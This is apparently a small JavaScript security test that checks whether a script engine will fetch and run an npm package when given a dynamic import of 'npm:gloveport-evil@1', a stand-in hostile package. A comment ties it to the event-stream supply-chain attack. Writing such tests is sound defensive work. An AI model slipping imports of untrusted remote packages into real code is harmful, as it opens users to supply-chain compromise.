// Tries: a package from npm, which the engine would fetch, unpack and run.
// Origin: supply chain: event-stream, CVE-2025-54313.

const settle = async (load) => {
  let outcome;
  load().then((module) => outcome = { module }, (error) => outcome = { error });
  for (let turn = 0; turn < 300 && !outcome; turn++) {
    if (typeof Deno === "object") await new Promise((resolve) => setTimeout(resolve, 5));
    else await crypto.subtle.digest("SHA-256", new Uint8Array(100000));
  }
  return outcome?.module ?? outcome?.error ?? "nothing";
};

return String(await settle(() => import("npm:gloveport-evil@1")));
